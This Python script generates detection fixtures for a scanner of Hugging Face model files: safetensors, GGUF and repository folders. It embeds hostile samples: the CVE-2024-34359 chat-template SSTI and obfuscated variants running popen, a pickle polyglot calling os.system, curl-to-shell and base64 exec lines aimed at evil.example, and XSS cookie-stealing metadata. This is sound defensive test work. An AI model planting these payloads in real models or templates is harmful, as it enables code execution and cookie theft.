#!/usr/bin/python3
"""Generates the Hugging Face-family detection fixtures in tests/testdata/hf/.

safetensors and GGUF files are written byte by byte from their specs (safetensors/src/tensor.rs,
ggml docs/gguf.md) because Debian packages neither writer; tensor values come from numpy/torch.
Chat templates are written by us in the style of the common model families; the malicious ones
are CVE-2024-34359 and obfuscated variants. Nothing here is executed or rendered.

Usage: /usr/bin/python3 make_hf_fixtures.py [OUT_DIR]   (default: the directory above this script)
Writes OUT_DIR/manifest.json: [{file, technique, expect, [rule], [adapter_expect]}]
  expect         verdict of a full scan (clean | suspicious | malicious)
  adapter_expect verdict of the hf adapter alone, when it differs (the trailing pickle in a
                 polyglot is judged by the pickle engine, not by the safetensors adapter)
Deterministic: same script, same bytes.
"""
import json
import os
import shutil
import struct
import sys

import numpy as np

try:
    import torch
except ImportError:  # bf16 bytes fall back to truncated f32
    torch = None

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else os.path.dirname(HERE)
MANIFEST = []


def add(path, technique, expect, rule=None, adapter_expect=None):
    e = {"file": path, "technique": technique, "expect": expect}
    if rule:
        e["rule"] = rule
    if adapter_expect:
        e["adapter_expect"] = adapter_expect
    MANIFEST.append(e)


def write(rel, data):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)


# --------------------------------------------------------------------------------------------
# Chat templates (same text as tests/formats/jinja/chat_templates.h)
LLAMA2 = ("{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% set content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}")
LLAMA3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}")
MISTRAL = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}")
CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
GEMMA = ("{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}")
PHI3 = ("{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}")
QWEN_TOOLS = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}
    {{- "\\n\\n# Tools\\n\\n<tools>" }}
    {%- for tool in tools %}{{- "\\n" }}{{- tool | tojson }}{%- endfor %}
    {{- "\\n</tools>\\n\\nReturn <tool_call>{\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}</tool_call><|im_end|>\\n" }}
{%- endif %}
{%- set ns = namespace(last_user=0) %}
{%- for message in messages %}
    {%- if message.role == "user" %}{%- set ns.last_user = loop.index0 %}{%- endif %}
    {%- if message.role == "assistant" and message.tool_calls %}
        {{- '<|im_start|>assistant' }}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""

CVE_2024_34359 = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
                  "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}"
                  "{%endif%}{% endfor %}")
MALICIOUS_TEMPLATES = [
    ("cve_2024_34359", CVE_2024_34359, "CVE-2024-34359 PoC: __subclasses__ walk to __builtins__.__import__('os').popen"),
    ("concat_attr", "{{ ()|attr('__cla' ~ 'ss__')|attr('__ba' + 'se__') }}", "dunder names assembled with ~ and + into |attr"),
    ("hex_escapes", "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.popen('id').read() }}", "cycler gadget with \\x5f-escaped dunders"),
    ("join_list", "{{ joiner|attr(['_','_','init','_','_']|join)|attr(['_','_','glo','bals','_','_']|join) }}", "joiner gadget, names built with |join"),
    ("format_chars", "{{ namespace|attr('%c%c%s%c%c'|format(95,95,'init',95,95)) }}", "namespace gadget, name built with '%c'|format"),
    ("percent_format", "{{ ()|attr('%c%cclass%c%c' % (95,95,95,95)) }}", "name built with '%c' % tuple"),
    ("replace_filter", "{{ self|attr('XXinitXX'|replace('X','_')) }}", "self gadget, name built with |replace"),
    ("lipsum_globals", "{% set u = '_' * 2 %}{{ lipsum|attr(u ~ 'globals' ~ u)['os'].popen('id').read() }}", "lipsum gadget via {% set %} variable"),
]


# --------------------------------------------------------------------------------------------
# safetensors (tensor.rs: u64 N | JSON header padded with spaces to 8 bytes | data)
def st_bytes(tensors, metadata=None, header_override=None, trailing=b"", pad=True):
    """tensors: list of (name, dtype, shape, raw bytes); offsets are laid out contiguously."""
    header = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    data = b""
    for name, dtype, shape, raw in tensors:
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    h = header_override if header_override is not None else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data + trailing


def bf16(a):
    if torch is not None:
        return torch.from_numpy(a).to(torch.bfloat16).view(torch.int16).numpy().tobytes()
    return (a.astype(np.float32).view(np.uint32) >> 16).astype(np.uint16).tobytes()


def make_safetensors():
    rng = np.random.default_rng(1234)
    w = rng.standard_normal((8, 4)).astype(np.float32)
    b = rng.standard_normal((4,)).astype(np.float16)
    e = rng.standard_normal((6, 4)).astype(np.float32)
    ids = np.arange(5, dtype=np.int64)
    mask = np.array([1, 0, 1, 1], dtype=np.bool_)
    q = rng.integers(0, 255, size=(16,), dtype=np.uint8)
    benign = [("embed.weight", "BF16", e.shape, bf16(e)), ("linear.bias", "F16", b.shape, b.tobytes()),
              ("linear.weight", "F32", w.shape, w.tobytes()), ("position_ids", "I64", ids.shape, ids.tobytes()),
              ("attention_mask", "BOOL", mask.shape, mask.tobytes()), ("quant.qweight", "U8", q.shape, q.tobytes())]
    write("safetensors/benign_mixed.safetensors", st_bytes(benign, {"format": "pt"}))
    add("safetensors/benign_mixed.safetensors", "benign: BF16/F16/F32/I64/BOOL/U8 tensors, format=pt metadata", "clean")
    write("safetensors/benign_no_metadata.safetensors", st_bytes([("w", "F32", w.shape, w.tobytes())]))
    add("safetensors/benign_no_metadata.safetensors", "benign: one F32 tensor, no __metadata__", "clean")
    lora_meta = {"ss_network_dim": "8", "ss_network_alpha": "4", "ss_learning_rate": "0.0001",
                 "ss_tag_frequency": json.dumps({"dataset": {"cat": 3, "dog": 2}}), "format": "pt"}
    write("safetensors/benign_lora_metadata.safetensors", st_bytes([("lora_down.weight", "F16", (4, 4), np.zeros((4, 4), np.float16).tobytes())], lora_meta))
    add("safetensors/benign_lora_metadata.safetensors", "benign: LoRA-style training metadata (JSON in strings)", "clean")
    write("safetensors/benign_empty.safetensors", st_bytes([]))
    add("safetensors/benign_empty.safetensors", "benign: header {} and no tensors", "clean")

    two = [("a", "F32", (2,), np.ones(2, np.float32).tobytes()), ("b", "F32", (2,), np.ones(2, np.float32).tobytes())]
    def hdr(d):
        return json.dumps(d, separators=(",", ":")).encode()
    overlap = hdr({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}})
    write("safetensors/overlap.safetensors", st_bytes([], header_override=overlap) + b"\0" * 12)
    add("safetensors/overlap.safetensors", "two tensors share bytes (InvalidOffset)", "suspicious", "safetensors.overlap")
    gap = hdr({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}})
    write("safetensors/gap.safetensors", st_bytes([], header_override=gap) + b"\0" * 24)
    add("safetensors/gap.safetensors", "8 hidden bytes between tensors (InvalidOffset)", "suspicious", "safetensors.gap")
    beyond = hdr({"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}})
    write("safetensors/out_of_file.safetensors", st_bytes([], header_override=beyond) + b"\0" * 64)
    add("safetensors/out_of_file.safetensors", "tensor data ends past the end of the file", "suspicious", "safetensors.offset-beyond-file")
    mismatch = hdr({"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 8]}})
    write("safetensors/size_mismatch.safetensors", st_bytes([], header_override=mismatch) + b"\0" * 8)
    add("safetensors/size_mismatch.safetensors", "data_offsets disagree with shape x dtype", "suspicious", "safetensors.size-mismatch")
    # Polyglot: a valid safetensors file followed by a pickle that calls os.system('id').
    payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."
    write("safetensors/trailing_pickle.safetensors", st_bytes(two, {"format": "pt"}, trailing=payload))
    add("safetensors/trailing_pickle.safetensors", "polyglot: pickle (os.system) appended after the last tensor", "malicious",
        "safetensors.trailing-data", adapter_expect="suspicious")
    code_meta = {"format": "pt", "note": "import os; os.system('curl http://evil.example/x.sh | sh')"}
    write("safetensors/metadata_code.safetensors", st_bytes(two, code_meta))
    add("safetensors/metadata_code.safetensors", "python/shell payload in __metadata__", "suspicious", "safetensors.metadata.code")
    xss_meta = {"format": "pt", "description": "<script>fetch('https://evil.example/?c='+document.cookie)</script>"}
    write("safetensors/metadata_html.safetensors", st_bytes(two, xss_meta))
    add("safetensors/metadata_html.safetensors", "HTML/JS payload in __metadata__ (model-card XSS)", "suspicious", "safetensors.metadata.code")
    dup = (b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
           b'"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}')
    write("safetensors/duplicate_keys.safetensors", st_bytes([], header_override=dup) + b"\0" * 16)
    add("safetensors/duplicate_keys.safetensors", "duplicate tensor key: loaders disagree on which wins", "suspicious", "safetensors.duplicate-key")
    write("safetensors/header_too_large.safetensors", struct.pack("<Q", 200_000_000) + b"{}" + b" " * 30)
    add("safetensors/header_too_large.safetensors", "header length 200 MB > MAX_HEADER_SIZE", "suspicious", "safetensors.header-too-large")
    write("safetensors/header_not_json.safetensors", st_bytes([], header_override=b"{'a': 1}"))
    add("safetensors/header_not_json.safetensors", "header is not JSON", "suspicious", "safetensors.invalid-json")
    nonstr = hdr({"__metadata__": {"n": 5, "nested": {"x": "y"}}})
    write("safetensors/metadata_not_string.safetensors", st_bytes([], header_override=nonstr))
    add("safetensors/metadata_not_string.safetensors", "__metadata__ values that are not strings", "suspicious", "safetensors.metadata-not-string")
    big = {"format": "pt", "blob": "A" * 100_000}
    write("safetensors/metadata_large.safetensors", st_bytes(two, big))
    add("safetensors/metadata_large.safetensors", "100 KB metadata string", "suspicious", "safetensors.metadata.large")
    dims = hdr({"a": {"dtype": "U8", "shape": [1] * 100, "data_offsets": [0, 1]}})
    write("safetensors/many_dims.safetensors", st_bytes([], header_override=dims) + b"\0")
    add("safetensors/many_dims.safetensors", "tensor with 100 dimensions", "suspicious", "safetensors.too-many-dims")


# --------------------------------------------------------------------------------------------
# GGUF (docs/gguf.md)
T_U8, T_I8, T_U16, T_I16, T_U32, T_I32, T_F32, T_BOOL, T_STR, T_ARR, T_U64, T_I64, T_F64 = range(13)
GGML_F32, GGML_F16, GGML_Q8_0 = 0, 1, 8


class Gguf:
    def __init__(self, version=3):
        self.v = version
        self.kvs = []
        self.tensors = []

    def cnt(self, n):
        return struct.pack("<I" if self.v == 1 else "<Q", n)

    def s(self, x):
        b = x.encode() if isinstance(x, str) else x
        return self.cnt(len(b)) + b

    def kv(self, key, vtype, value, elem=None):
        self.kvs.append((key, vtype, value, elem))
        return self

    def val(self, vtype, value, elem=None):
        fmt = {T_U8: "<B", T_I8: "<b", T_U16: "<H", T_I16: "<h", T_U32: "<I", T_I32: "<i", T_F32: "<f",
               T_BOOL: "<?", T_U64: "<Q", T_I64: "<q", T_F64: "<d"}
        if vtype in fmt:
            return struct.pack(fmt[vtype], value)
        if vtype == T_STR:
            return self.s(value)
        out = struct.pack("<I", elem) + self.cnt(len(value))
        return out + b"".join(self.val(elem, x) for x in value)

    def tensor(self, name, dims, ggml_type, raw):
        self.tensors.append((name, dims, ggml_type, raw))
        return self

    def build(self, align=32):
        out = b"GGUF" + struct.pack("<I", self.v) + self.cnt(len(self.tensors)) + self.cnt(len(self.kvs))
        for key, vtype, value, elem in self.kvs:
            out += self.s(key) + struct.pack("<I", vtype) + self.val(vtype, value, elem)
        off = 0
        layout = []
        for name, dims, t, raw in self.tensors:
            off = (off + align - 1) // align * align
            layout.append(off)
            out += self.s(name) + struct.pack("<I", len(dims)) + b"".join(self.cnt(d) for d in dims)
            out += struct.pack("<I", t) + struct.pack("<Q", off)
            off += len(raw)
        out += b"\0" * ((align - len(out) % align) % align)
        data = b""
        for (name, dims, t, raw), o in zip(self.tensors, layout):
            data += b"\0" * (o - len(data)) + raw
        return out + data


def q8_0_rows(rows, cols, rng):
    # block_q8_0: f16 scale + 32 int8 quants
    out = b""
    for _ in range(rows * cols // 32):
        out += np.float16(0.01).tobytes() + rng.integers(-127, 127, 32, dtype=np.int8).tobytes()
    return out


def base_model(version, template_kvs, name="tiny-test"):
    rng = np.random.default_rng(7)
    g = Gguf(version)
    g.kv("general.architecture", T_STR, "llama").kv("general.name", T_STR, name)
    g.kv("general.license", T_STR, "apache-2.0").kv("general.file_type", T_U32, 7)
    g.kv("general.alignment", T_U32, 32).kv("llama.context_length", T_U32, 2048)
    g.kv("llama.embedding_length", T_U32, 32).kv("llama.block_count", T_U32, 1)
    g.kv("llama.rope.freq_base", T_F32, 10000.0).kv("llama.attention.layer_norm_rms_epsilon", T_F32, 1e-5)
    toks = ["<unk>", "<s>", "</s>"] + [f"tok{i}" for i in range(13)]
    g.kv("tokenizer.ggml.model", T_STR, "llama").kv("tokenizer.ggml.tokens", T_ARR, toks, T_STR)
    g.kv("tokenizer.ggml.scores", T_ARR, [float(-i) for i in range(len(toks))], T_F32)
    g.kv("tokenizer.ggml.token_type", T_ARR, [1] * len(toks), T_I32)
    g.kv("tokenizer.ggml.bos_token_id", T_U32, 1).kv("tokenizer.ggml.add_bos_token", T_BOOL, True)
    for k, v in template_kvs:
        if isinstance(v, list):
            g.kv(k, T_ARR, v, T_STR)
        else:
            g.kv(k, T_STR, v)
    g.tensor("token_embd.weight", [32, 16], GGML_F32, rng.standard_normal((16, 32)).astype(np.float32).tobytes())
    g.tensor("blk.0.attn_q.weight", [32, 32], GGML_Q8_0, q8_0_rows(32, 32, rng))
    g.tensor("output_norm.weight", [32], GGML_F16, np.ones(32, np.float16).tobytes())
    return g


def make_gguf():
    write("gguf/benign_v3_chatml.gguf", base_model(3, [("tokenizer.chat_template", CHATML)]).build())
    add("gguf/benign_v3_chatml.gguf", "benign GGUF v3, Q8_0/F16/F32 tensors, ChatML template", "clean")
    write("gguf/benign_v2_llama3.gguf", base_model(2, [("tokenizer.chat_template", LLAMA3)]).build())
    add("gguf/benign_v2_llama3.gguf", "benign GGUF v2, Llama-3 style template", "clean")
    write("gguf/benign_v1_llama2.gguf", base_model(1, [("tokenizer.chat_template", LLAMA2)]).build())
    add("gguf/benign_v1_llama2.gguf", "benign GGUF v1 (u32 counts), Llama-2 style template", "clean")
    named = [("tokenizer.chat_template", MISTRAL), ("tokenizer.chat_templates", ["tool_use", "rag"]),
             ("tokenizer.chat_template.tool_use", QWEN_TOOLS), ("tokenizer.chat_template.rag", GEMMA)]
    write("gguf/benign_named_templates.gguf", base_model(3, named).build())
    add("gguf/benign_named_templates.gguf", "benign named templates (tokenizer.chat_templates)", "clean")
    write("gguf/benign_phi3_no_tensors.gguf", Gguf(3).kv("general.architecture", T_STR, "phi3").kv("tokenizer.chat_template", T_STR, PHI3).build())
    add("gguf/benign_phi3_no_tensors.gguf", "benign vocab-only GGUF (no tensors), Phi-3 style template", "clean")

    for name, tmpl, what in MALICIOUS_TEMPLATES:
        write(f"gguf/ssti_{name}.gguf", base_model(3, [("tokenizer.chat_template", tmpl)], name="ssti").build())
        add(f"gguf/ssti_{name}.gguf", what, "malicious", "template.ssti")
    named_bad = [("tokenizer.chat_template", CHATML), ("tokenizer.chat_templates", ["tool_use"]),
                 ("tokenizer.chat_template.tool_use", MALICIOUS_TEMPLATES[3][1])]
    write("gguf/ssti_named_template.gguf", base_model(3, named_bad).build())
    add("gguf/ssti_named_template.gguf", "benign default template, SSTI hidden in tokenizer.chat_template.tool_use", "malicious", "template.ssti")

    g = base_model(3, [("tokenizer.chat_template", CHATML)])
    raw = bytearray(g.build())
    # Move the last tensor's offset far past the end of the file.
    idx = raw.rfind(b"output_norm.weight") + len("output_norm.weight") + 4 + 8 + 4
    raw[idx:idx + 8] = struct.pack("<Q", 1 << 40)
    write("gguf/tensor_out_of_range.gguf", bytes(raw))
    add("gguf/tensor_out_of_range.gguf", "tensor offset far beyond the file (and misaligned data section check)", "suspicious", "gguf.out-of-range")
    bad = b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 40)
    write("gguf/huge_kv_count.gguf", bad + b"\0" * 64)
    add("gguf/huge_kv_count.gguf", "metadata count 2^40 in a 88-byte file", "suspicious", "gguf.limit")
    meta = base_model(3, [("tokenizer.chat_template", CHATML)])
    meta.kv("general.description", T_STR, "<script>document.location='https://evil.example/'+document.cookie</script>")
    write("gguf/metadata_code.gguf", meta.build())
    add("gguf/metadata_code.gguf", "HTML/JS payload in general.description", "suspicious", "gguf.metadata.code")


# --------------------------------------------------------------------------------------------
# Hugging Face repository folders
CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 32,
          "num_hidden_layers": 1, "torch_dtype": "float32", "vocab_size": 16}
BENIGN_MODELING = '''"""Custom model code (benign): a tiny MLP."""
import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        self.eval()  # method named eval is not the builtin
        return torch.relu(self.proj(x))
'''
BENIGN_CONFIGURATION = '''from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=32, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''
MALICIOUS_MODELING = '''import os
import base64
from transformers import PreTrainedModel

_BOOT = "aW1wb3J0IHNvY2tldA=="


class TinyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        os.system("curl -s https://evil.example/stage2.sh | sh")
        exec(base64.b64decode(_BOOT))
'''


def repo_file(repo, name, content):
    write(f"repos/{repo}/{name}", content)


def small_safetensors():
    w = np.arange(16, dtype=np.float32)
    return st_bytes([("w", "F32", (16,), w.tobytes())], {"format": "pt"})


def make_repos():
    shutil.rmtree(os.path.join(OUT, "repos"), ignore_errors=True)
    repo_file("benign", "config.json", json.dumps(CONFIG, indent=2))
    repo_file("benign", "generation_config.json", json.dumps({"bos_token_id": 1, "eos_token_id": 2}, indent=2))
    repo_file("benign", "tokenizer_config.json", json.dumps({"bos_token": "<s>", "chat_template": LLAMA3}, indent=2))
    repo_file("benign", "model.safetensors", small_safetensors())
    repo_file("benign", "README.md", "---\nlicense: apache-2.0\n---\n# tiny test model\n")
    add("repos/benign", "benign repo: config, tokenizer_config with Llama-3 template, safetensors weights", "clean")

    cfg = dict(CONFIG, auto_map={"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"})
    repo_file("auto_map_local", "config.json", json.dumps(cfg, indent=2))
    repo_file("auto_map_local", "configuration_tiny.py", BENIGN_CONFIGURATION)
    repo_file("auto_map_local", "modeling_tiny.py", BENIGN_MODELING)
    repo_file("auto_map_local", "model.safetensors", small_safetensors())
    add("repos/auto_map_local", "auto_map to local modules (trust_remote_code), benign code", "suspicious", "hf.remote-code")

    cfg = dict(CONFIG, auto_map={"AutoConfig": "configuration_tiny.TinyConfig",
                                 "AutoModelForCausalLM": "evil-org/helpers--modeling_evil.EvilModel"})
    repo_file("auto_map_cross_repo", "config.json", json.dumps(cfg, indent=2))
    repo_file("auto_map_cross_repo", "configuration_tiny.py", BENIGN_CONFIGURATION)
    add("repos/auto_map_cross_repo", "auto_map references code in another repository (repo--module.Class)", "malicious", "hf.remote-code.cross-repo")

    cfg = dict(CONFIG, auto_map={"AutoModel": "modeling_tiny.TinyModel"})
    repo_file("malicious_python", "config.json", json.dumps(cfg, indent=2))
    repo_file("malicious_python", "modeling_tiny.py", MALICIOUS_MODELING)
    add("repos/malicious_python", "remote-code module runs os.system and exec(base64 payload)", "malicious", "hf.remote-code.dangerous-python")

    repo_file("lfs_pointers", "config.json", json.dumps(CONFIG, indent=2))
    repo_file("lfs_pointers", "model.safetensors",
              "version https://git-lfs.github.com/spec/v1\n"
              "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 4970000000\n")
    add("repos/lfs_pointers", "weights are Git LFS pointer files (not downloaded, not analysed)", "suspicious", "hf.lfs-pointer")

    repo_file("tokenizer_ssti", "config.json", json.dumps(CONFIG, indent=2))
    repo_file("tokenizer_ssti", "tokenizer_config.json", json.dumps({"chat_template": CVE_2024_34359}, indent=2))
    add("repos/tokenizer_ssti", "tokenizer_config.json chat_template with the CVE-2024-34359 payload", "malicious", "template.ssti")

    lst = [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": MALICIOUS_TEMPLATES[4][1]}]
    repo_file("chat_template_list", "tokenizer_config.json", json.dumps({"chat_template": lst}, indent=2))
    add("repos/chat_template_list", "chat_template list; the named tool_use template carries SSTI", "malicious", "template.ssti")

    repo_file("chat_template_file", "config.json", json.dumps(CONFIG, indent=2))
    repo_file("chat_template_file", "chat_template.jinja", MALICIOUS_TEMPLATES[2][1])
    add("repos/chat_template_file", "chat_template.jinja with an escaped-dunder SSTI", "malicious", "template.ssti")

    import pickle
    repo_file("extension_mismatch", "config.json", json.dumps(CONFIG, indent=2))
    repo_file("extension_mismatch", "model.safetensors", pickle.dumps({"w": list(range(8))}, protocol=4))
    add("repos/extension_mismatch", "model.safetensors whose content is a pickle", "suspicious", "hf.extension-mismatch")

    cfg = dict(CONFIG, custom_pipelines={"text-generation": {"impl": "evil-org/pipes--pipeline_x.XPipeline", "pt": ["AutoModelForCausalLM"]}})
    repo_file("custom_pipeline_cross_repo", "config.json", json.dumps(cfg, indent=2))
    add("repos/custom_pipeline_cross_repo", "custom_pipelines implementation from another repository", "malicious", "hf.remote-code.cross-repo")


def main():
    for sub in ("safetensors", "gguf"):
        shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    make_safetensors()
    make_gguf()
    make_repos()
    MANIFEST.sort(key=lambda e: e["file"])
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
        f.write("\n")
    print(f"wrote {len(MANIFEST)} fixtures to {OUT}")


if __name__ == "__main__":
    main()
